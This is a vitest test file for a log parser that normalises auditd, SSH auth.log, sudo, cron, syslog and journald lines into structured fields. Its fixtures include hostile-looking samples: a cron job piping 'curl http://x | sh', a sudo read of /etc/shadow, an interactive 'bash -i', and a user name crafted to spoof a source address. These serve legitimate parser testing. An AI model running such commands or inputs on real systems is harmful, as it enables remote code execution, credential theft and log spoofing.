import { describe, expect, test } from 'vitest';
import { parse } from './test/parse.ts';

describe('auditd', () => {
  test('every key=value is kept by name; hexadecimal values are text again; SYSCALL arguments stay numbers', () => {
    const event = parse(
      'node=web1 type=SYSCALL msg=audit(1763776800.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55D0 a1=7FFE ppid=10 pid=11 ' +
        'auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=62617368202D69 exe="/usr/bin/bash" key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="lan"',
    );
    expect(event['@timestamp']).toBe('2025-11-22T02:00:00.123Z');
    expect(event.auditd).toMatchObject({ message_type: 'syscall', sequence: 456, session: '3' });
    expect(event.auditd?.data).toMatchObject({
      type: 'SYSCALL',
      a0: '55D0',
      comm: 'bash -i',
      exe: '/usr/bin/bash',
      key: 'exec',
      AUID: 'lan',
    });
    expect(event.host?.name).toBe('web1');
    expect(event.user).toEqual({ id: '1000', name: 'lan', effective: { id: '0' } });
    expect(event.process).toMatchObject({ executable: '/usr/bin/bash', pid: 11, parent: { pid: 10 } });
  });

  test('EXECVE arguments are decoded, pieces joined, and make the command line', () => {
    const event = parse('type=EXECVE msg=audit(1763776800.000:1): argc=3 a0="sh" a1=2D6320 a2_len=4 a2[0]=6563 a2[1]=686F');
    expect(event.auditd?.data).toMatchObject({ type: 'EXECVE', a0: 'sh', a1: '-c ', a2: 'echo' });
    expect(event.process?.command_line).toBe('sh -c  echo');
  });

  test('the inner list of a user-space record joins the outer one', () => {
    const event = parse(
      `type=USER_LOGIN msg=audit(1763776800.000:9): pid=7 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.5 terminal=ssh res=failed'`,
    );
    expect(event.auditd?.data).toMatchObject({ acct: 'root', addr: '203.0.113.5', res: 'failed' });
    expect(event.event.outcome).toBe('failure');
    expect(event.source).toMatchObject({ ip: '203.0.113.5' });
    expect(event.user?.name).toBe('root');
  });
});

describe('auth.log', () => {
  test('a failed ssh sign-in names user, address and port, whatever the user name contains', () => {
    const event = parse(
      'Nov 22 03:50:37 gw sshd[99]: Failed password for invalid user x from 1.1.1.1 port 1 from 203.0.113.7 port 40022 ssh2',
    );
    expect(event['@timestamp']).toBe('2026-11-22T03:50:37.000Z');
    expect(event.event).toMatchObject({ module: 'sshd', outcome: 'failure', category: ['authentication'] });
    expect(event.user?.name).toBe('x from 1.1.1.1 port 1');
    expect(event.source).toMatchObject({ ip: '203.0.113.7', port: 40022 });
    expect(event.host?.name).toBe('gw');
  });

  test('an accepted key and a session of PAM', () => {
    const event = parse(
      '2026-11-22T03:50:37.123456+07:00 gw sshd[99]: Accepted publickey for lan from 2001:db8::7 port 50 ssh2: ED25519 SHA256:x',
    );
    expect(event['@timestamp']).toBe('2026-11-21T20:50:37.123Z');
    expect(event.user?.name).toBe('lan');
    expect(event.source).toMatchObject({ ip: '2001:db8::7', port: 50 });
    const session = parse('Nov 22 03:50:37 gw sshd[99]: pam_unix(sshd:session): session opened for user lan(uid=1000) by (uid=0)');
    expect(session.event).toMatchObject({ action: 'session-opened', outcome: 'success' });
    expect(session.user?.name).toBe('lan');
  });

  test('sudo names who ran what as whom', () => {
    const event = parse('Nov 22 03:50:37 gw sudo:      lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow ; x');
    expect(event.event).toMatchObject({ module: 'sudo', outcome: 'success' });
    expect(event.user).toEqual({ name: 'lan', effective: { name: 'root' } });
    expect(event.process).toMatchObject({ command_line: '/usr/bin/cat /etc/shadow ; x', working_directory: '/home/lan', name: 'cat' });
    expect(parse('Nov 22 03:50:37 gw sudo: lan : user NOT in sudoers ; TTY=x ; PWD=/ ; USER=root ; COMMAND=/bin/sh').event.outcome).toBe(
      'failure',
    );
  });

  test('su and cron', () => {
    const su = parse('Nov 22 03:50:37 gw su[5]: FAILED SU (to root) lan on pts/1');
    expect(su.event).toMatchObject({ module: 'su', outcome: 'failure' });
    expect(su.user).toEqual({ name: 'lan', effective: { name: 'root' } });
    const cron = parse('Nov 22 03:50:01 gw CRON[77]: (root) CMD (curl http://x | sh)');
    expect(cron.event).toMatchObject({ module: 'cron', action: 'cmd' });
    expect(cron.process?.command_line).toBe('curl http://x | sh');
    expect(cron.user?.name).toBe('root');
  });
});

describe('syslog', () => {
  test('RFC 5424 with structured data, escapes and a byte-order mark', () => {
    const event = parse(
      '<165>1 2026-10-11T22:14:15.003Z mymachine evntslog 8710 ID47 [ex@32473 iut="3" eventSource="App \\"x\\]"][b a="1"] \uFEFFAn entry',
    );
    expect(event['@timestamp']).toBe('2026-10-11T22:14:15.003Z');
    expect(event.message).toBe('An entry');
    expect(event.log?.syslog).toEqual({
      priority: 165,
      facility: { code: 20 },
      severity: { code: 5 },
      appname: 'evntslog',
      procid: '8710',
      msgid: 'ID47',
      structured_data: { 'ex@32473': { iut: '3', eventSource: 'App "x]' }, b: { a: '1' } },
    });
  });

  test('RFC 3164 takes its year from the collection time and never lies more than a day ahead', () => {
    expect(parse('<13>Dec 31 23:59:59 h app: x')['@timestamp']).toBe('2025-12-31T23:59:59.000Z');
    expect(parse('<13>Jan  1 00:00:30 h app: x', { collected: '2026-12-31T23:59:59.000Z' })['@timestamp']).toBe('2027-01-01T00:00:30.000Z');
    expect(parse('<13>Feb 29 10:00:00 h app: x')['@timestamp']).toBe('2024-02-29T10:00:00.000Z');
  });

  test("a time without zone is read on the machine's own clock", () => {
    expect(parse('Nov 22 10:50:37 h app: x', { utcOffset: 420 })['@timestamp']).toBe('2026-11-22T03:50:37.000Z');
  });

  test('a line with nothing but a priority, or without a host, is still a message', () => {
    expect(parse('<34>su root failed').message).toBe('su root failed');
    expect(parse('<34>su root failed').event.module).toBe('syslog');
    expect(parse('<13>Nov 22 03:00:00 app: hello')).toMatchObject({ message: 'hello', host: { name: 'collector-1' } });
  });
});

describe('journald', () => {
  test('text, bytes and null messages; the program behind is recognised', () => {
    const entry = {
      __REALTIME_TIMESTAMP: '1763776800123456',
      _HOSTNAME: 'h',
      SYSLOG_IDENTIFIER: 'sshd',
      _PID: '5',
      PRIORITY: '6',
      SYSLOG_FACILITY: '4',
    };
    const event = parse(JSON.stringify({ ...entry, MESSAGE: 'Failed password for root from 192.0.2.1 port 22 ssh2' }));
    expect(event['@timestamp']).toBe('2025-11-22T02:00:00.123Z');
    expect(event).toMatchObject({ event: { module: 'sshd', outcome: 'failure' }, user: { name: 'root' }, host: { name: 'h' } });
    expect(event.log?.syslog).toMatchObject({ priority: 38, facility: { code: 4 }, severity: { code: 6 } });
    expect(parse(JSON.stringify({ ...entry, SYSLOG_IDENTIFIER: 'x', MESSAGE: [104, 105, 255] })).message).toBe('hi\uFFFD');
    expect(parse(JSON.stringify({ ...entry, SYSLOG_IDENTIFIER: 'x', MESSAGE: null })).message).toBe('');
  });

  test('what sudo reports it runs is the process, not sudo itself', () => {
    const event = parse(
      JSON.stringify({
        __REALTIME_TIMESTAMP: '1763776800123456',
        SYSLOG_IDENTIFIER: 'sudo',
        _EXE: '/usr/bin/sudo',
        _CMDLINE: 'sudo id',
        MESSAGE: 'lan : TTY=x ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id',
      }),
    );
    expect(event.process?.command_line).toBe('/usr/bin/id');
  });
});
